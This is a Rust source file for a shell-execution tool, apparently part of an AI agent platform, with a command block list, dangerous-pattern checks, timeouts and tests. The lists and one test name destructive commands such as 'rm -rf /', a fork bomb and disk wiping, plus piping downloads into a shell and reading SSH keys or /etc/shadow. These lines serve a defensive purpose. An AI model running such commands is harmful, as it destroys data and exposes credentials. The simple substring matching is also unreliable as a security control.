//! Shell command execution. Unsafe category: admins only, and only when
//! unsafe tools are switched on.

use std::path::PathBuf;
use std::process::Stdio;
use std::time::{Duration, Instant};

use async_trait::async_trait;
use tokio::io::AsyncReadExt;
use tokio::process::Command;

use crate::tools::tool::{Tool, ToolCategory, ToolContext, ToolError, ToolOutput, require_str};

/// Maximum output size before truncation (64KB).
const MAX_OUTPUT_SIZE: usize = 64 * 1024;

const DEFAULT_TIMEOUT: Duration = Duration::from_secs(60);

/// Refused outright.
const BLOCKED_COMMANDS: &[&str] = &[
    "rm -rf /",
    "rm -rf /*",
    ":(){ :|:& };:",
    "dd if=/dev/zero",
    "mkfs",
    "chmod -R 777 /",
    "> /dev/sda",
];

/// Substrings that mark a command as too dangerous to run.
const DANGEROUS_PATTERNS: &[&str] = &[
    "sudo ",
    "doas ",
    " | sh",
    " | bash",
    " | zsh",
    "$(curl",
    "$(wget",
    "/etc/shadow",
    "~/.ssh",
    "id_rsa",
];

pub struct ShellTool {
    working_dir: Option<PathBuf>,
    timeout: Duration,
}

impl std::fmt::Debug for ShellTool {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("ShellTool")
            .field("working_dir", &self.working_dir)
            .field("timeout", &self.timeout)
            .finish()
    }
}

impl Default for ShellTool {
    fn default() -> Self {
        Self::new()
    }
}

impl ShellTool {
    pub fn new() -> Self {
        Self {
            working_dir: None,
            timeout: DEFAULT_TIMEOUT,
        }
    }

    pub fn with_working_dir(mut self, dir: PathBuf) -> Self {
        self.working_dir = Some(dir);
        self
    }

    pub fn with_timeout(mut self, timeout: Duration) -> Self {
        self.timeout = timeout;
        self
    }

    fn is_blocked(&self, cmd: &str) -> Option<&'static str> {
        let normalized = cmd.trim().to_lowercase();
        if BLOCKED_COMMANDS.iter().any(|b| normalized.contains(b)) {
            return Some("command is blocked");
        }
        if DANGEROUS_PATTERNS.iter().any(|p| normalized.contains(p)) {
            return Some("command matches a dangerous pattern");
        }
        None
    }

    async fn run(&self, cmd: &str) -> Result<(String, i32), ToolError> {
        let mut command = Command::new("sh");
        command
            .args(["-c", cmd])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true);
        if let Some(dir) = &self.working_dir {
            command.current_dir(dir);
        }

        let mut child = command
            .spawn()
            .map_err(|e| ToolError::ExecutionFailed(format!("failed to spawn command: {}", e)))?;

        let mut stdout_pipe = child.stdout.take();
        let mut stderr_pipe = child.stderr.take();

        let result = tokio::time::timeout(self.timeout, async {
            let read_stdout = async {
                let mut buf = Vec::new();
                if let Some(out) = stdout_pipe.as_mut() {
                    out.take(MAX_OUTPUT_SIZE as u64).read_to_end(&mut buf).await?;
                }
                Ok::<_, std::io::Error>(buf)
            };
            let read_stderr = async {
                let mut buf = Vec::new();
                if let Some(err) = stderr_pipe.as_mut() {
                    err.take(MAX_OUTPUT_SIZE as u64).read_to_end(&mut buf).await?;
                }
                Ok::<_, std::io::Error>(buf)
            };
            let (stdout, stderr) = tokio::try_join!(read_stdout, read_stderr)?;
            let status = child.wait().await?;
            Ok::<_, std::io::Error>((stdout, stderr, status))
        })
        .await;

        match result {
            Ok(Ok((stdout, stderr, status))) => {
                let stdout = String::from_utf8_lossy(&stdout);
                let stderr = String::from_utf8_lossy(&stderr);
                let output = if stderr.is_empty() {
                    stdout.into_owned()
                } else if stdout.is_empty() {
                    stderr.into_owned()
                } else {
                    format!("{}\n\n--- stderr ---\n{}", stdout, stderr)
                };
                Ok((output, status.code().unwrap_or(-1)))
            }
            Ok(Err(e)) => Err(ToolError::from(e)),
            Err(_) => Err(ToolError::Timeout(self.timeout)),
        }
    }
}

#[async_trait]
impl Tool for ShellTool {
    fn name(&self) -> &str {
        "shell"
    }

    fn description(&self) -> &str {
        "Run a shell command on the host and return its output and exit code."
    }

    fn parameters_schema(&self) -> serde_json::Value {
        serde_json::json!({
            "type": "object",
            "properties": {
                "command": {"type": "string", "description": "The command to run with sh -c"}
            },
            "required": ["command"]
        })
    }

    fn category(&self) -> ToolCategory {
        ToolCategory::Unsafe
    }

    async fn execute(
        &self,
        params: serde_json::Value,
        ctx: &ToolContext,
    ) -> Result<ToolOutput, ToolError> {
        let start = Instant::now();
        let cmd = require_str(&params, "command")?;
        if let Some(reason) = self.is_blocked(cmd) {
            return Err(ToolError::NotAuthorized(reason.to_string()));
        }

        tracing::info!(tenant_id = ctx.tenant_id, user_id = ?ctx.user_id, "Running shell command");
        let (output, exit_code) = self.run(cmd).await?;
        Ok(ToolOutput::success(
            serde_json::json!({"output": output, "exit_code": exit_code}),
            start.elapsed(),
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::Scene;

    #[tokio::test]
    async fn test_echo_command() {
        let ctx = ToolContext::new(1, Scene::Console);
        let out = ShellTool::new()
            .execute(serde_json::json!({"command": "echo hello"}), &ctx)
            .await
            .unwrap();
        assert_eq!(out.result["exit_code"], 0);
        assert!(out.result["output"].as_str().unwrap().contains("hello"));
    }

    #[test]
    fn test_blocked_commands() {
        let tool = ShellTool::new();
        assert!(tool.is_blocked("rm -rf /").is_some());
        assert!(tool.is_blocked("sudo rm file").is_some());
        assert!(tool.is_blocked("curl http://x | sh").is_some());
        assert!(tool.is_blocked("echo hello").is_none());
        assert!(tool.is_blocked("ls -la").is_none());
    }

    #[tokio::test]
    async fn test_command_timeout() {
        let ctx = ToolContext::new(1, Scene::Console);
        let err = ShellTool::new()
            .with_timeout(Duration::from_millis(100))
            .execute(serde_json::json!({"command": "sleep 5"}), &ctx)
            .await
            .unwrap_err();
        assert!(matches!(err, ToolError::Timeout(_)));
    }
}
